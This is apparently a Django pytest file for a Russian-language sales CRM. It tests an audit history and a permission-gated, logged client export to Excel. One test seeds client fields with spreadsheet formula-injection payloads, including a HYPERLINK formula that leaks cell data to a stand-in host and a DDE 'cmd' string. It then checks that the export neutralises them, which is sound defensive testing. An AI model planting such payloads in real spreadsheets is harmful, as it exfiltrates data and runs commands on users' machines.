"""The head's audit history, and exporting the client base: its own permission, and on record."""

from io import BytesIO

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from deals.models import ClientExport, Payment
from deals.stages import Stage
from kpi.services import PlanRow, plans_save
from tests.deals.factories import Pipeline, make_client, make_deal

pytestmark = pytest.mark.django_db


def grant_export(user):
    user.user_permissions.add(Permission.objects.get(codename="export_client_base"))
    return type(user).objects.get(pk=user.pk)  # a fresh object: permissions are cached per instance


def test_the_head_sees_who_changed_a_plan_and_what(client, sales_head, hunter):
    month = timezone.localdate().replace(day=1)
    client.force_login(sales_head)
    prefix = f"h{hunter.pk}"
    form = {
        f"{prefix}-revenue_target": "100000",
        f"{prefix}-deals_target": "2",
        f"{prefix}-leads_target": "10",
        f"{prefix}-calls_target": "100",
        f"{prefix}-meetings_target": "5",
        f"{prefix}-messages_target": "20",
    }
    client.post(reverse("kpi:plans", args=[f"{month:%Y-%m}"]), form)
    client.post(reverse("kpi:plans", args=[f"{month:%Y-%m}"]), {**form, f"{prefix}-calls_target": "150"})

    page = client.get(reverse("audit")).content.decode()

    assert "Ольга Петрова" in page
    assert "изменение" in page and "создание" in page
    assert "100 → 150" in page


def test_a_recorded_payment_is_on_record_with_the_accountant(
    client, sales_head, hunter, production, accountant
):
    deal = Pipeline(hunter=hunter, production=production, accountant=accountant).advance_to(
        make_deal(acting_user=hunter), Stage.PAYMENT
    )
    client.force_login(accountant)
    client.post(
        reverse("deals:payment", args=[deal.pk]),
        {"amount": "1200.00", "received_on": timezone.localdate().isoformat(), "bank_document": "п/п 5"},
    )
    assert Payment.objects.filter(deal=deal).count() == 1

    client.force_login(sales_head)
    page = client.get(reverse("audit") + "?kind=payment").content.decode()

    assert "Евгения Шибанова" in page
    assert reverse("deals:detail", args=[deal.pk]) in page


def test_only_the_head_reads_the_audit_history(client, hunter, accountant, production):
    for user in (hunter, accountant, production):
        client.force_login(user)
        assert client.get(reverse("audit")).status_code == 403


def test_plans_saved_by_a_service_outside_a_request_are_on_record_too(sales_head, hunter):
    plans_save(
        acting_user=sales_head, month=timezone.localdate(), rows=[PlanRow(hunter=hunter, calls_target=7)]
    )
    from kpi.models import MonthlyPlan

    assert MonthlyPlan.history.count() == 1


def test_the_head_cannot_export_without_the_permission(client, sales_head):
    client.force_login(sales_head)
    assert client.get(reverse("clients:export")).status_code == 403
    assert "client-export" not in client.get(reverse("clients:list")).content.decode()
    assert not ClientExport.objects.exists()


def test_an_export_holds_the_filtered_clients_and_is_logged(client, sales_head, hunter, other_hunter):
    make_client(
        acting_user=hunter, name="Автомойка «Блеск»", segment="Автомойки", phones=["+7 912 000-11-22"]
    )
    make_client(acting_user=other_hunter, name="Кафе «Уют»", segment="Кафе")
    head = grant_export(sales_head)
    client.force_login(head)
    assert "client-export" in client.get(reverse("clients:list")).content.decode()

    response = client.get(reverse("clients:export") + "?segment=Автомойки")

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0][0] == "Клиент"
    assert [row[0] for row in rows[1:]] == ["Автомойка «Блеск»"]
    assert rows[1][-1] == "'+79120001122"  # text starting with "+" is never a formula
    [export] = ClientExport.objects.all()
    assert (export.by, export.rows) == (head, 1)
    assert "segment=" in export.filters

    page = client.get(reverse("audit")).content.decode()
    assert "Выгрузки клиентской базы" in page and ">1<" in page


def test_an_export_writes_formula_looking_client_fields_as_text(client, sales_head, hunter):
    make_client(
        acting_user=hunter,
        name='=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")',
        city="@SUM(1+1)",
        address="-2+3+cmd|' /C calc'!A0",
        segment="Автомойки",
    )
    client.force_login(grant_export(sales_head))

    sheet = load_workbook(BytesIO(client.get(reverse("clients:export")).content)).active

    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    name, city, address, segment = (cell.value for cell in next(sheet.iter_rows(min_row=2))[:4])
    assert name == '\'=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")'
    assert (city, address, segment) == ("'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "Автомойки")


def test_an_export_through_the_proxy_is_logged_with_the_client_s_address(client, settings, sales_head):
    settings.TRUSTED_PROXY_COUNT = 1
    client.force_login(grant_export(sales_head))

    proxied = {"REMOTE_ADDR": "172.18.0.5", "HTTP_X_FORWARDED_FOR": "1.1.1.1, 203.0.113.7"}
    client.get(reverse("clients:export"), **proxied)

    assert ClientExport.objects.get().address == "203.0.113.7"


def test_a_hunter_with_the_permission_exports_only_own_clients(client, hunter, other_hunter):
    make_client(acting_user=hunter, name="Своя автомойка")
    make_client(acting_user=other_hunter, name="Чужое кафе")
    client.force_login(grant_export(hunter))

    rows = list(
        load_workbook(BytesIO(client.get(reverse("clients:export")).content)).active.iter_rows(
            values_only=True
        )
    )

    assert [row[0] for row in rows[1:]] == ["Своя автомойка"]


def test_the_audit_reads_as_russian_with_values_as_the_pages_show_them(
    client, sales_head, hunter, other_hunter, production, accountant
):
    from datetime import date

    from compensation.services import adjustment_add
    from deals.services import deal_transfer
    from tests.workflow import approve

    deal = Pipeline(hunter=hunter, production=production, accountant=accountant).advance_to(
        make_deal(acting_user=hunter), Stage.PAYMENT
    )
    deal_transfer(
        acting_user=sales_head, deal=deal, to_owner=other_hunter, return_on=date(2027, 1, 15), reason="Отпуск"
    )
    march = date(2026, 3, 1)
    adjustment_add(acting_user=sales_head, hunter=hunter, month=march, amount=1500, reason="Выставка")
    approve(hunter, march, head=sales_head)

    client.force_login(sales_head)
    page = client.get(reverse("audit")).content.decode().replace("\u00a0", " ")

    assert "Иван Иванов → Анна Смирнова" in page  # a transfer: who to whom
    assert "вернуть: — → 15.01.2027" in page and "Отпуск" in page
    assert "утверждение" in page  # the statement's status change, said as the workflow says it
    assert "Черновик → Утверждён руководителем" in page
    assert "1 500,00 ₽" in page  # money as the pages show it
    assert "утвердил: — → Ольга Петрова" in page  # people by name, not login or id
    assert "approved_lines" not in page and "needs_check" not in page


def test_the_audit_filters_by_kind(client, sales_head, hunter, other_hunter):
    from deals.services import client_transfer

    client_transfer(acting_user=sales_head, client=make_client(acting_user=hunter), to_owner=other_hunter)
    client.force_login(sales_head)
    page = client.get(reverse("audit") + "?kind=transfer").content.decode()
    assert "передача" in page and "с открытыми сделками" in page
    assert "Передачи" in page or "журнал передач" in page.lower()


def test_a_plan_copied_from_last_month_is_on_record_with_who_copied_it(client, sales_head, hunter):
    from kpi.months import previous_month
    from kpi.services import plans_copy_previous

    month = timezone.localdate().replace(day=1)
    plans_save(
        acting_user=sales_head, month=previous_month(month), rows=[PlanRow(hunter=hunter, calls_target=9)]
    )
    assert plans_copy_previous(acting_user=sales_head, month=month) == 1

    client.force_login(sales_head)
    page = client.get(reverse("audit") + "?kind=plan").content.decode()
    assert "создание (копия плана прошлого месяца)" in page
    assert page.count("Ольга Петрова") >= 2


def test_payment_terms_and_order_versions_are_in_the_audit(
    client, sales_head, hunter, production, accountant
):
    from decimal import Decimal

    from deals.services import OrderLineInput, client_set_payment_terms, order_set_lines

    deal = Pipeline(hunter=hunter, production=production, accountant=accountant).advance_to(
        make_deal(acting_user=hunter), Stage.SHIPMENT
    )
    product = deal.order.lines.first().product
    order_set_lines(
        acting_user=hunter, deal=deal, lines=[OrderLineInput(product=product, quantity=Decimal(12))]
    )
    client_set_payment_terms(
        acting_user=accountant, client=deal.client, payment_terms="consignment", consignment_cadence="weekly"
    )

    client.force_login(sales_head)
    page = client.get(reverse("audit")).content.decode()
    assert "Версия заказа" in page and "Заказ по сделке" in page
    assert "условия оплаты: Предоплата → Реализация" in page
